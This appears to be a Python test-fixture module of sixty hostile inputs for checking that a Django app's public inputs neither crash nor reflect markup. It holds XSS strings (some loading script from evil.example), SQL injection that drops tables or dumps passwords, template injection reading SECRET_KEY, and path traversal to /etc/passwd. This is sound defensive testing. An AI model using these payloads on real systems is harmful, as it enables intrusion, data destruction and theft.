"""Hostile inputs every public input must withstand: no 500, nothing reflected unescaped.

Sixty payloads: cross-site scripting in and out of attributes, SQL injection for SQLite and
PostgreSQL, Django/Jinja template injection, path traversal, header (CRLF) injection, and Unicode
that breaks naive code (NUL, RTL override, combining marks, overlong and odd forms).
"""

import unicodedata

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">bấm</a>',
    "javascript:alert(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x.swf>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x`onerror=alert(1)>",
    "<ſcript>alert(1)</ſcript>",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE articles_article; --",
    "'; DELETE FROM auth_user; --",
    "' UNION SELECT username, password FROM auth_user --",
    "1' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\'; --",
    "admin'--",
    "') OR ('x'='x",
    "1)) OR ((1=1",
    "!!! & | <-> :* ()",  # tsquery operators
    '"" -- ',
]

TEMPLATE = [
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "${7*7}",
    "#{7*7}",
    "{{request.user.password}}",
    "{{''.__class__.__mro__}}",
]

OTHER = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "line\r\nSet-Cookie: owned=1",
    "%0d%0aLocation:%20//evil.example",
    "nul\x00byte",
    "\u202egnp.exe",  # right-to-left override
    unicodedata.normalize("NFD", "Đổi mới công tác dân vận"),  # combining marks
    "x" * 5000,
    "-1",
    "0",
]

PAYLOADS = XSS + SQL + TEMPLATE + OTHER

# Markers whose count on a page must not grow when a payload is reflected: a new element.
TAG_MARKERS = ("<script", "<img", "<svg", "<iframe", "<body", '<a href="javascript', "<style", "<meta http")
